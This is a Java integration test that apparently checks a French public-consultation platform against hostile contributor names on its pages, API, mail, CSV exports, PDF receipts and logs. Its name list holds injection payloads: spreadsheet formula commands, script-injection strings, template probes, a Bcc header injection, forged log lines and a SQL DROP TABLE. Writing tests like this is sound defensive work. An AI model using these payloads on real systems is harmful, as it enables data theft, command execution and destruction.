package org.egide.platform;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import jakarta.mail.Header;
import jakarta.mail.MessagingException;
import jakarta.mail.internet.MimeMessage;
import java.io.IOException;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.stream.IntStream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation;
import org.egide.consultation.Consultation;
import org.egide.consultation.Member;
import org.egide.consultation.ModerationMode;
import org.egide.consultation.Role;
import org.egide.testing.Site;
import org.egide.testing.TestClock;
import org.egide.testing.TestConsultations;
import org.egide.testing.TestKeycloak;
import org.egide.testing.TestMail;
import org.egide.testing.TestSession;
import org.egide.testing.WholeSiteTest;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Names made to break what shows them are names, on every surface: page, API, mail, table, document, log. */
@WholeSiteTest
@ExtendWith(OutputCaptureExtension.class)
class HostileNamesTests {

    /** At most 100 characters each, as names are. */
    private static final List<String> NAMES = List.of(
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"https://ailleurs.example.org?\"&A1,\"ici\")",
            "+33 6 00 00 00 00",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "＝1+1",
            "O\"Neill\",\"une autre\";cellule",
            "\u202Egpj.exe\u202C",
            "\u2066caché\u2069 \u200Bet invisible",
            "<img src=x onerror=alert(1)>",
            "\"><script>alert(1)</script>",
            "</title></textarea><svg onload=alert(1)>",
            "${7*7} #{7*7} *{7*7} [[${7*7}]] __${7*7}__::.x",
            "{{7*7}} %s%n%x {0} ''{1}''",
            "Nom\r\nBcc: victime@example.org",
            "Nom\n2021-04-01T12:00:00.000Z ERROR 1 --- [egide] zyxforge : fausse ligne",
            "'; DROP TABLE register.contribution; --");

    private static final JsonMapper JSON = JsonMapper.shared();

    @LocalServerPort
    private int port;

    @Autowired
    @SuppressWarnings("NullAway.Init")
    private TestConsultations made;

    @Autowired
    @SuppressWarnings("NullAway.Init")
    private TestClock clock;

    @SuppressWarnings("NullAway.Init")
    private Site site;

    @SuppressWarnings("NullAway.Init")
    private String slug;

    @SuppressWarnings("NullAway.Init")
    private String api;

    /** The codes of the receipts, in the order of names. */
    @SuppressWarnings("NullAway.Init")
    private List<String> codes;

    @BeforeEach
    void everyoneOfThemContributes() {
        clock.reset();
        site = Site.on(port);
        Consultation consultation = made.create(TestConsultations.draft(
                TestConsultations.calendar("2021-02-09", "2021-02-25", "2021-04-23"),
                ModerationMode.AFTER_PUBLICATION,
                List.of(
                        new Member(Role.OWNER, "Inventé maître", "maitre-ouvrage@example.org"),
                        new Member(Role.GUARANTOR, "Inventé garant", "garant@example.org"))));
        slug = consultation.slug();
        api = "/api/v1/consultations/" + slug;
        codes = new ArrayList<>();
        for (int i = 0; i < NAMES.size(); i++) {
            String name = NAMES.get(i);
            Map<String, Object> words = Map.of(
                    "theme",
                    "water",
                    "kind",
                    "OPINION",
                    "title",
                    name,
                    "body",
                    "Le nom : " + name,
                    "authorName",
                    name,
                    "publishName",
                    true,
                    "email",
                    address(i));
            String answer = Site.text(site.post(api + "/contributions", JSON.writeValueAsBytes(words), "fr"));
            codes.add(JSON.readTree(answer).path("receipt").asString());
        }
    }

    private String address(int i) {
        return "=n" + i + "@" + slug + ".example.org";
    }

    @Test
    void areOnlyWordsOnPages() {
        String session = TestSession.cookieOf(port, "garant");
        assertOnlyWords(page("/fr/consultations/" + slug + "/contributions?limit=100", null), NAMES);
        assertOnlyWords(page("/fr/workspace/consultations/" + slug + "/moderation", session), List.of());
        for (int i = 0; i < NAMES.size(); i++) {
            Document one = page("/fr/consultations/" + slug + "/contributions/" + (i + 1), null);
            assertOnlyWords(one, List.of(NAMES.get(i)));
            String name = plain(NAMES.get(i));
            assertThat(one.select("main bdi"))
                    .as("its direction ends with it")
                    .anyMatch(bdi -> plain(bdi.wholeText()).equals(name));
            assertOnlyWords(page("/fr/receipts/" + codes.get(i), null), List.of());
        }
        for (JsonNode waiting : queue()) {
            Document item = page(
                    "/fr/workspace/consultations/" + slug + "/moderation/items/"
                            + waiting.path("content").asString(),
                    session);
            assertOnlyWords(item, List.of());
        }
    }

    private JsonNode queue() {
        return JSON.readTree(ask(HttpMethod.GET, api + "/moderation/queue?limit=100", "garant", null))
                .path("items");
    }

    /** They are there, whole, and nothing of them became an element, an attribute or a link. */
    private static void assertOnlyWords(Document page, List<String> names) {
        List<String> texts = page.select("main *").stream()
                .map(Element::wholeText)
                .map(HostileNamesTests::plain)
                .toList();
        names.forEach(name -> assertThat(texts).anyMatch(text -> text.contains(plain(name))));
        assertThat(page.select("main script, main iframe, main img[onerror], main svg[onload], main object,"
                        + " [onerror], [onload], [onclick], main [style], [href^=javascript], main [src=x]"))
                .isEmpty();
        assertThat(page.text()).doesNotContain("49");
    }

    /** A browser reads any end of a line as one. */
    private static String plain(String text) {
        return text.replace("\r\n", "\n").replace('\r', '\n').strip();
    }

    @Test
    void areTheSameInTheApi() {
        for (int i = 0; i < NAMES.size(); i++) {
            JsonNode one = JSON.readTree(Site.text(site.get(api + "/contributions/" + (i + 1), "fr")));
            assertThat(one.path("authorName").asString()).isEqualTo(NAMES.get(i));
            assertThat(one.path("title").asString()).isEqualTo(NAMES.get(i));
        }
    }

    @Test
    void neverBecomeAHeaderOrAnotherRecipientOfAMail() throws MessagingException {
        for (int i = 0; i < NAMES.size(); i++) {
            MimeMessage mail = mailTo(address(i));
            assertThat(mail.getAllRecipients()).hasSize(1);
            assertThat(mail.getSubject()).isEqualTo("Votre contribution n° %d est reçue".formatted(i + 1));
            for (Header header : Collections.list(mail.getAllHeaders())) {
                assertThat(header.getName()).doesNotContainIgnoringCase("bcc");
                assertThat(header.getValue()).doesNotContain("victime", "zyxforge", "<script", "calc");
            }
        }
        assertThat(TestMail.SERVER.getReceivedMessagesForDomain("victime@example.org"))
                .isEmpty();
    }

    private static MimeMessage mailTo(String address) {
        Instant end = Instant.now().plusSeconds(20);
        MimeMessage[] found = TestMail.SERVER.getReceivedMessagesForDomain(address);
        while (found.length == 0 && Instant.now().isBefore(end)) {
            Thread.onSpinWait();
            found = TestMail.SERVER.getReceivedMessagesForDomain(address);
        }
        assertThat(found).as(address).hasSize(1);
        return found[0];
    }

    /** Every table that the product makes: identities, the record of moderation, the report of an import. */
    @Test
    void areNoFormulaOfASpreadsheet() throws IOException {
        JsonNode act = JSON.readTree(ask(
                HttpMethod.POST,
                api + "/acts",
                "garant",
                Map.of("kind", "EXPORT_IDENTITIES", "purpose", "=cmd|' /C calc'!A0")));
        String turned = api + "/acts/" + act.path("id").asString();
        ask(
                HttpMethod.PUT,
                turned + "/second-key",
                "maitre-ouvrage",
                Map.of("fingerprint", act.path("fingerprint").asString()));
        String table = ask(HttpMethod.POST, turned + "/identities", "garant", null);
        List<CsvRecord> rows = rows(table);
        assertThat(rows).hasSize(NAMES.size() + 1);
        assertThat(rows.stream().skip(1).map(row -> row.getField(1)))
                .containsExactlyInAnyOrderElementsOf(
                        NAMES.stream().map(HostileNamesTests::harmless).toList());
        assertThat(rows.stream().skip(1).map(row -> row.getField(2)))
                .containsExactlyInAnyOrderElementsOf(IntStream.range(0, NAMES.size())
                        .mapToObj(i -> "'" + address(i))
                        .toList());
        assertThat(page("/fr/consultations/" + slug + "/acts", null).select("main script"))
                .isEmpty();
        assertNoFormula(rows);
        for (JsonNode waiting : queue()) {
            ask(
                    HttpMethod.POST,
                    api + "/moderation/items/" + waiting.path("content").asString() + "/decision",
                    "garant",
                    Map.of("outcome", "REFUSE", "ground", "INSULT", "reason", NAMES.getFirst()));
        }
        String record = Site.text(site.get(api + "/moderation-record/table.csv", "fr"));
        assertThat(rows(record)).hasSize(NAMES.size() + 1);
        assertNoFormula(rows(record));
    }

    private static String harmless(String name) {
        return name.matches("(?s)\\s*[=+\\-@＝\\t\\r].*") ? "'" + name : name;
    }

    private static void assertNoFormula(List<CsvRecord> rows) {
        rows.forEach(row -> row.getFields()
                .forEach(cell -> assertThat(cell.strip()).as(cell).doesNotMatch("(?s)[=+\\-@＝].*")));
    }

    private static List<CsvRecord> rows(String table) {
        assertThat(table).startsWith("\ufeff");
        return CsvReader.builder().ofCsvRecord(table.substring(1)).stream().toList();
    }

    @Test
    void areOnlyWordsInTheDocumentOfAReceipt() throws IOException {
        for (String code : codes) {
            byte[] file = Objects.requireNonNull(site.client()
                    .get()
                    .uri("/fr/receipts/" + code + "/receipt.pdf")
                    .exchange()
                    .expectStatus()
                    .isOk()
                    .expectBody()
                    .returnResult()
                    .getResponseBody());
            try (PDDocument document = Loader.loadPDF(file)) {
                assertThat(document.getDocumentCatalog().getOpenAction()).isNull();
                assertThat(document.getDocumentCatalog().getNames()).isNull();
                for (PDAnnotation link : document.getPage(0).getAnnotations()) {
                    assertThat(link.getCOSObject().toString()).doesNotContain("JavaScript", "Launch", "ailleurs");
                }
            }
        }
    }

    /** Neither what is received, refused, decided nor broken lets anybody write a line of the log. */
    @Test
    void writeNoLineOfTheLog(CapturedOutput output) {
        for (String name : NAMES) {
            site.client()
                    .get()
                    .uri(uri -> uri.path("/fr/consultations/{name}").build(name))
                    .header("User-Agent", name.replaceAll("[^\\x20-\\x7e]", "?"))
                    .exchange();
            site.client()
                    .post()
                    .uri(api + "/contributions")
                    .contentType(MediaType.APPLICATION_JSON)
                    .bodyValue("{\"theme\": " + JSON.writeValueAsString(name) + ", \"kind\": \"" + "zyxforge\"}")
                    .exchange();
            site.client()
                    .get()
                    .uri(api + "/moderation/queue")
                    .header("Authorization", "Bearer " + name.replaceAll("[^\\x20-\\x7e]", "?"))
                    .exchange();
        }
        assertThat(Arrays.stream(output.getAll().split("\\R")))
                .noneMatch(line -> line.contains("zyxforge") || line.startsWith("Bcc:"));
    }

    private Document page(String address, @Nullable String session) {
        var request = site.client().get().uri(address).header("Accept", "text/html");
        if (session != null) {
            request.header("Cookie", session);
        }
        return Jsoup.parse(Site.text(request.exchange().expectStatus().isOk()));
    }

    private String ask(HttpMethod method, String address, String user, @Nullable Map<String, ?> body) {
        var request = site.client()
                .method(method)
                .uri(address)
                .headers(headers -> headers.setBearerAuth(TestKeycloak.tokenOf(user)))
                .contentType(MediaType.APPLICATION_JSON);
        var answer = (body == null ? request : request.bodyValue(body)).exchange();
        return Site.text(answer.expectStatus().is2xxSuccessful());
    }
}
